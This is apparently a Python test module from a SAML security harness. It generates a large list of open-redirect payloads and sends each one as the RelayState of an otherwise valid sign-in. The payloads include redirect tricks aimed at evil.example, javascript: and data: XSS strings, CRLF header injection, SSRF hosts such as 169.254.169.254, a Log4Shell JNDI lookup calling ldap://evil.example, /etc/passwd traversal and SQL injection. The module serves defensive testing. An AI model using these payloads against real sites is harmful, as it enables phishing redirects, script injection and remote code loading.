"""Row S24: redirect payloads, made by rule, as RelayState of an honest sign-in.

Also printed alone by `saml.py --payloads`, for every other parameter that might become a redirect target. A
payload is a class of trick applied to a foreign host; the judge is a browser's URL parser, not this table.
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

from ..case import SIGNED_IDENTITY, Case, Kit

HOST = "evil.example"


def slashes() -> Iterator[str]:
    """Everything that browsers take for the start of an authority."""
    for start in ("//", "///", "////", "\\\\", "/\\", "\\/", "/\\/", "\\\\\\", "//\\", "/\\\\", "\\", "\\//"):
        yield f"{start}{HOST}"
        yield f"{start}{HOST}/portal"
    for inside in ("\t", "\n", "\r", "\r\n", " ", "\0", "\x0b", "\x0c", "\u00a0", "\u2028", "\ufeff", "\u3000"):
        yield f"/{inside}/{HOST}"
        yield f"{inside}//{HOST}"
        yield f"//{inside}{HOST}"
        yield f"/{inside}\\{HOST}"
    for mark in ("%09", "%0a", "%0d", "%00", "%20", "%2f", "%5c", "%e2%80%a8", "%252f", "%c0%af", "%ef%bc%8f"):
        yield f"/{mark}/{HOST}"
        yield f"/{mark}{HOST}"
        yield f"{mark}{mark}{HOST}"
        yield f"{mark}//{HOST}"
    for letter in ("\uff0f", "\u2044", "\u2215", "\u29f8", "\uff3c", "\u3002"):
        yield f"{letter}{letter}{HOST}"
        yield f"/{letter}{HOST}"


def schemes() -> Iterator[str]:
    """Absolute URLs, well-made and sloppy."""
    for scheme in ("http", "https", "HTTP", "HtTpS", "ftp", "ws", "wss"):
        for rest in ("://", ":/", ":", ":///", ":\\\\", ":/\\", ":\\", "://\t", ":\t//", "://%09", "://:@"):
            yield f"{scheme}{rest}{HOST}"
    for mark in ("\t", "\n", " ", "\0", "\x01", "\u00ad", "\u200b"):
        yield f"{mark}https://{HOST}"
        yield f"ht{mark}tps://{HOST}"
        yield f"https{mark}://{HOST}"
    for scheme in ("javascript", "JaVaScRiPt", "vbscript", "data", "blob", "file", "about", "view-source", "filesystem", "intent", "chrome", "mailto", "tel", "jar", "feed"):
        yield f"{scheme}:alert(1)"
        yield f"{scheme}://{HOST}/%0aalert(1)"
    for mark in ("\t", "\n", "\r", "\0", "\x01", "&Tab;", "&colon;", "%09", "/**/"):
        yield f"java{mark}script:alert(1)"
        yield f"{mark}javascript:alert(1)"
    yield "data:text/html,<script>alert(1)</script>"
    yield "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    yield "javascript://%0aalert(1)"
    yield "javascript:/*--></title></style><svg/onload=alert(1)>"


def authorities(own: str) -> Iterator[str]:
    """Hosts that look like ours: as user, as prefix, as suffix, as port, escaped."""
    bare = own.split("://", 1)[-1]
    for text in (
        f"{own}@{HOST}", f"{own}:@{HOST}", f"{own}:80@{HOST}", f"{own}%40{HOST}", f"{own}\\@{HOST}", f"{own}%5c@{HOST}",
        f"{own}.{HOST}", f"{own}-{HOST}", f"{own}{HOST}", f"{own}%2e{HOST}", f"{own}\u3002{HOST}", f"{own}\uff0e{HOST}",
        f"//{bare}@{HOST}", f"//{bare}.{HOST}", f"//{HOST}#{bare}", f"//{HOST}?{bare}", f"//{HOST}\\{bare}", f"//{HOST}/{bare}",
        f"https://{HOST}#{own}", f"https://{HOST}?{own}", f"https://{HOST}\\.{bare}", f"https://{HOST}%23.{bare}", f"https://{HOST}%3f.{bare}",
        f"https://{HOST}:443#@{bare}/", f"https://{HOST}:{bare}", f"https://[::1]@{HOST}", f"https://{HOST};{bare}", f"https://{HOST},{bare}",
        f"https://{bare}:pass@{HOST}", f"https://user@{bare}@{HOST}", f"https://{HOST}\t@{bare}", f"https://{HOST}%00.{bare}", f"https://{HOST} .{bare}",
        f"{own}#@{HOST}/", f"{own}?@{HOST}/", f"{own};@{HOST}/", f"{own}\n.{HOST}", f"{own}%0a.{HOST}", f"{own}%0d%0a.{HOST}",
    ):
        yield text
    for host in ("0x7f000001", "2130706433", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "169.254.169.254", "localhost", "0", "evil.example.", "xn--vil-pla.example", "\u24d4vil.example", "evil%E3%80%82example"):
        yield f"//{host}/"
        yield f"https://{host}/"


def paths() -> Iterator[str]:
    """Paths that become something else when they are normalised or joined."""
    for text in ("/..//", "/.//", "/../..//", "/%2e%2e//", "/x/..//", "/./\\", "/%2e/", "/;/", "/.;/", "/x/../../\\", "./", "../", ".//", "..//", "?", "#", "?next=//", "#//", ";//", ":80//", "@", ":@", ":"):
        yield f"{text}{HOST}"
        yield f"{text}/{HOST}"
    for text in ("/sign-out", "/sign-out?next=//evil.example", "/admin/access", "/api/v1/me", "/saml/corpus/acs", "/go/payments-prod/Admin", "/go?destination=https://evil.example", "/keys/payments-prod/Admin", "/static/../admin/access"):
        yield text


def headers() -> Iterator[str]:
    """Line ends and header names."""
    for end in ("\r\n", "\n", "\r", "%0d%0a", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "\u560a\u560d", "\u2028", "\u0085", "%u000a", "%250a"):
        yield f"/{end}Location: https://{HOST}"
        yield f"/x{end}Set-Cookie: evil=1"
        yield f"/x{end}{end}<script>alert(1)</script>"


def odd() -> Iterator[str]:
    """Long, binary, markup."""
    yield ""
    yield " "
    yield "a" * 81
    yield "a" * 5000
    yield "/" * 3000
    yield "/" + "a" * 3000 + f"@{HOST}"
    yield "\0"
    yield "\x01\x02\x03"
    yield "\ud7ff\ue000"
    yield "<script>alert(1)</script>"
    yield '"><script>alert(1)</script>'
    yield "' onmouseover='alert(1)"
    yield "{{7*7}}"
    yield "${jndi:ldap://evil.example/x}"
    yield "../../../../etc/passwd"
    yield "%"
    yield "%zz"
    yield "%u002f%u002fevil.example"
    yield "null"
    yield "undefined"
    yield "[object Object]"
    yield "0"
    yield "1' OR '1'='1"


def payloads(own: str) -> list[str]:
    """All payloads once, plain and (where it changes anything) percent-encoded whole."""
    plain = [*slashes(), *schemes(), *authorities(own), *paths(), *headers(), *odd()]
    encoded = [quote(text, safe="") for text in (*slashes(), *authorities(own)) if text.isascii()]
    return list(dict.fromkeys([*plain, *encoded]))


def honest(kit: Kit) -> bytes:
    """An honest response; only the RelayState is not."""
    return kit.signed("both")


def cases() -> Iterator[Case]:
    """One honest sign-in for each payload. For one kind of key: the key has no part in it."""
    for number, payload in enumerate(payloads("http://127.0.0.1"), 1):
        yield Case(f"S24.{number:03}-relay", "RelayState as a redirect", SIGNED_IDENTITY, honest, keys=("rsa",), fields={"relay": payload})
